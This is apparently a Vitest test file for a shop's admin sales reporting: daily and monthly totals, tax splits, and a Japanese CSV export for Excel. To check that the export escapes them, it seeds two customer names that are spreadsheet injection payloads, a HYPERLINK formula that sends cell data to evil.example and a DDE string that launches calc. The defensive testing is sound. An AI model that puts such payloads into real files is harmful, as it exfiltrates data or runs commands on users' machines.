// Today's figures and sales by day and month, with the CSV export, on a fixed clock
// (Monday 2030-06-03 12:00, Tokyo): orders count on their slot's Tokyo day; cancelled and
// unpaid card orders are not sales; an open order whose slot has ended is late.
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Prisma } from "../../../server/src/generated/prisma/client.js";
import { hashPassword } from "../../../server/src/modules/auth/password.js";
import { startTestApp, TEST_ADMIN, type TestApp } from "../../setup/test-app.js";
import { adminSession, insertOrder } from "../board/helpers.js";
import { tokyo } from "../provision/helpers.js";
import { csvRecords, parseCsv, sumOf } from "./csv-read.js";

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"詳細")';

describe("sales figures", () => {
  let app: TestApp;
  let admin: Awaited<ReturnType<typeof adminSession>>;

  const order = async (slot: Date, data: Prisma.OrderUpdateInput = {}, name?: string) => {
    const created = await insertOrder(app.db.prisma, slot, name ? { lastName: name } : {});
    return app.db.prisma.order.update({ where: { id: created.id }, data });
  };

  beforeAll(async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    vi.setSystemTime(tokyo("2030-06-03", "12:00"));
    app = await startTestApp({ seed: false });
    await app.db.prisma.administrator.create({
      data: {
        name: "店長",
        email: TEST_ADMIN.email,
        passwordHash: await hashPassword(TEST_ADMIN.password),
        role: "OWNER",
      },
    });
    admin = await adminSession(app.url);
    // Today: a provided takeout paid at the shop, a late open one, an open delivery paid by card,
    // a cancelled one and an unpaid card order; plus yesterday, last month and just after midnight.
    await order(tokyo("2030-06-03", "11:00"), { status: "PROVIDED" });
    await order(tokyo("2030-06-03", "11:30"), { status: "RECEIVED" }, "遅延");
    await order(tokyo("2030-06-03", "18:00"), {
      method: "DELIVERY",
      paymentMethod: "CARD",
      paymentStatus: "PAID",
      total: 2500,
      taxTotal: 189,
      taxes: [
        { rate: 8, amount: 2200, tax: 162 },
        { rate: 10, amount: 300, tax: 27 },
      ],
      status: "PRINTING",
    });
    // A counter sale paid in cash and a phone order, under names that are spreadsheet formulas.
    await order(
      tokyo("2030-06-03", "10:00"),
      { channel: "SHOP", shopKind: "COUNTER", shopPayment: "CASH", status: "PROVIDED" },
      FORMULA_NAME,
    );
    await order(
      tokyo("2030-06-03", "19:00"),
      { channel: "SHOP", shopKind: "PHONE", status: "RECEIVED" },
      "+cmd|' /C calc'!A0",
    );
    await order(tokyo("2030-06-03", "13:00"), { status: "CANCELLED" });
    await order(tokyo("2030-06-03", "13:00"), { status: "AWAITING_PAYMENT", paymentMethod: "CARD" });
    await order(tokyo("2030-06-02", "23:45"), { status: "PROVIDED", total: 500 }, '前日, "夜"');
    await order(tokyo("2030-05-31", "12:00"), { status: "PROVIDED", total: 700 });
    await order(tokyo("2030-06-04", "00:00"), { status: "RECEIVED" });
  });
  afterAll(async () => {
    await app?.close();
    vi.useRealTimers();
  });

  it("answers today's figures split by method, channel, payment way and tax rate", async () => {
    const res = await admin.rest("GET", "/admin/sales/today");
    expect(res.status).toBe(200);
    const share = (key: string, k: string, label: string, n: number, sales: number) => ({
      [k]: key,
      label,
      order_count: n,
      item_count: 2 * n,
      sales,
    });
    expect(res.body).toEqual({
      date: "2030-06-03",
      order_count: 5,
      item_count: 10,
      sales: 1080 * 4 + 2500,
      by_tax_rate: [
        { tax_rate: 8, amount: 1080 * 4 + 2200, tax: 80 * 4 + 162 },
        { tax_rate: 10, amount: 300, tax: 27 },
      ],
      by_channel: [
        share("online", "channel", "オンライン", 3, 4660),
        share("counter", "channel", "店頭", 1, 1080),
        share("phone", "channel", "電話", 1, 1080),
      ],
      by_payment: [
        share("online_card", "payment", "オンラインカード決済", 1, 2500),
        share("pay_on_receipt", "payment", "店頭・配達時払い", 3, 3240),
        share("counter_cash", "payment", "店頭 現金", 1, 1080),
        share("counter_card", "payment", "店頭 カード", 0, 0),
      ],
      by_method: [
        { provision_method: "takeout", order_count: 4, item_count: 8, sales: 4320 },
        { provision_method: "delivery", order_count: 1, item_count: 2, sales: 2500 },
      ],
      open_count: 3,
      late_count: 1,
      cancelled_count: 1,
    });
    const gql = await admin.gql(
      "{ todayFigures { sales lateCount byMethod { method sales } byTaxRate { rate amount tax } } }",
    );
    expect(gql.data?.todayFigures).toEqual({
      sales: 6820,
      lateCount: 1,
      byMethod: [
        { method: "TAKEOUT", sales: 4320 },
        { method: "DELIVERY", sales: 2500 },
      ],
      byTaxRate: [
        { rate: 8, amount: 6520, tax: 482 },
        { rate: 10, amount: 300, tax: 27 },
      ],
    });
  });

  it("sums sales by day and by month on the slot's Tokyo day", async () => {
    const days = await admin.rest("GET", "/admin/sales?from=2030-05-31&to=2030-06-04&group=day");
    expect(days.body.rows.map((r: { period: string; sales: number }) => [r.period, r.sales])).toEqual([
      ["2030-05-31", 700],
      ["2030-06-02", 500],
      ["2030-06-03", 6820],
      ["2030-06-04", 1080],
    ]);
    expect(days.body.total).toMatchObject({ order_count: 8, item_count: 16, sales: 9100 });
    const months = await admin.gql(`{ salesReport(from: "2030-05-01", to: "2030-06-30", groupBy: MONTH) {
      ... on QuerySalesReportSuccess { data { sales rows { period orderCount sales takeoutSales deliverySales } } } } }`);
    expect(months.data?.salesReport.data.rows).toEqual([
      { period: "2030-05", orderCount: 1, sales: 700, takeoutSales: 700, deliverySales: 0 },
      { period: "2030-06", orderCount: 7, sales: 8400, takeoutSales: 5900, deliverySales: 2500 },
    ]);
  });

  it("refuses a reversed or malformed range in Japanese", async () => {
    const reversed = await admin.rest("GET", "/admin/sales?from=2030-06-03&to=2030-06-01");
    expect(reversed.status).toBe(422);
    expect(reversed.body.errors).toEqual(["終了日は開始日以降の日付にしてください"]);
    const bad = await admin.rest("GET", "/admin/sales/orders.csv?from=june&to=2030-06-01");
    expect(bad.status).toBe(422);
    expect(bad.body.errors).toEqual(["開始日は日付で入力してください"]);
  });

  const csvOf = async (from: string, to: string) => {
    const res = await fetch(`${app.url}/api/admin/sales/orders.csv?from=${from}&to=${to}`, {
      headers: admin.headers,
    });
    expect(res.status).toBe(200);
    return res;
  };

  it("exports the sales as CSV for Excel: BOM, Japanese headers, CRLF, quoted fields", async () => {
    const res = await csvOf("2030-06-02", "2030-06-03");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(
      'attachment; filename="orders-2030-06-02_2030-06-03.csv"',
    );
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).slice(1);
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(
      "注文番号,受取日,受取時刻,受取方法,受付経路,支払方法,状態,お名前,電話番号,品数," +
        "8%対象（税込）,8%消費税,10%対象（税込）,10%消費税,小計（税抜）,配達料（税抜）,消費税,売上（税込）,注文日時," +
        "決済ID,返金額",
    );
    // Header, the six sales of the two days (not the cancelled or unpaid ones), the final CRLF.
    expect(lines).toHaveLength(1 + 6 + 1);
    expect(lines[1]).toMatch(
      /^[^,]+,2030-06-02,23:45,テイクアウト,オンライン,店頭・配達時払い,お渡し済み,"前日, ""夜"" 花子",/,
    );
    expect(
      lines.some((l) => l.includes(",2030-06-03,18:00,デリバリー,オンライン,オンラインカード決済,調理中,")),
    ).toBe(true);
    expect(lines.some((l) => l.includes("キャンセル") || l.includes("お支払い待ち"))).toBe(false);
  });

  it("adds up: the CSV's columns sum to the sales page's figures, and today's to the board's", async () => {
    const records = csvRecords(await (await csvOf("2030-05-31", "2030-06-04")).text());
    const page = (await admin.rest("GET", "/admin/sales?from=2030-05-31&to=2030-06-04&group=day")).body;
    expect(records).toHaveLength(page.total.order_count);
    expect(sumOf(records, "品数")).toBe(page.total.item_count);
    expect(sumOf(records, "売上（税込）")).toBe(page.total.sales);
    for (const { tax_rate, amount, tax } of page.total.by_tax_rate) {
      expect(sumOf(records, `${tax_rate}%対象（税込）`)).toBe(amount);
      expect(sumOf(records, `${tax_rate}%消費税`)).toBe(tax);
    }
    expect(sumOf(records, "消費税")).toBe(
      page.total.by_tax_rate.reduce((sum: number, t: { tax: number }) => sum + t.tax, 0),
    );
    for (const share of page.total.by_channel) {
      const rows = records.filter((r) => r.受付経路 === share.label);
      expect([rows.length, sumOf(rows, "売上（税込）")]).toEqual([share.order_count, share.sales]);
    }
    for (const share of page.total.by_payment) {
      const rows = records.filter((r) => r.支払方法 === share.label);
      expect([rows.length, sumOf(rows, "売上（税込）")]).toEqual([share.order_count, share.sales]);
    }
    // The day on the board, on the sales page and in the CSV.
    const board = (await admin.rest("GET", "/admin/sales/today")).body;
    const day = page.rows.find((r: { period: string }) => r.period === board.date);
    const dayRecords = records.filter((r) => r.受取日 === board.date);
    const { open_count, late_count, cancelled_count, date, ...boardFigures } = board;
    const { period, takeout_sales, delivery_sales, reconciliation, ...dayFigures } = day;
    expect(boardFigures).toEqual(dayFigures);
    expect([dayRecords.length, sumOf(dayRecords, "売上（税込）")]).toEqual([board.order_count, board.sales]);
  });

  it("writes names typed as formulas as text, and keeps numbers numeric", async () => {
    const text = await (await csvOf("2030-06-03", "2030-06-03")).text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""詳細"") 花子"`);
    expect(text).toContain(",'+cmd|' /C calc'!A0 花子,");
    const cells = parseCsv(text).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const records = csvRecords(text);
    expect(records.every((r) => /^\d+$/.test(r["売上（税込）"] ?? ""))).toBe(true);
  });
});
